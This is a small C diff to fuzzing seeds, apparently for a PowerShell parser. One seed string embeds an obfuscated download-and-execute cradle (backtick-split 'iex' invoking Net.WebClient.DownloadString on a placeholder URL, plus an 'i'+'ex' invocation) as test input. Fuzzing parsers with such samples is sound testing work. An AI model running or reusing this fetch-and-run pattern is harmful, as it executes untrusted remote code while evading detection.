@@ -22,6 +22,7 @@ static void seed(void (*run)(const void *bytes, size_t n), const char *text)
 void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 {
 	literal_seeds("", "read/test_ps.c", run);
+	call_seeds("ps", run);
 	seed(run, " param([string]$Url = 'http://a.example', [switch]$q)\nfunction Get-It { param($x) begin { 1 } process { $_ } end { return $x } }\n"
 		  "i`e`x (New-Object Net.WebClient).DownloadString($Url); & ('i'+'ex') $r | % { $_ -bxor 5 } > out.txt 2>&1\n");
 	seed(run, "@\"\nhi $x $($y.z) `n\n\"@ + @'\nraw\n'@ -replace 'a','b' -split ',' -join '' ; \"{1}{0}\" -f 'a','b'; $x[-1..-5]; [char[]](1,2); ,1; @{ a = 1; 'b' = @(1,2) }\n");
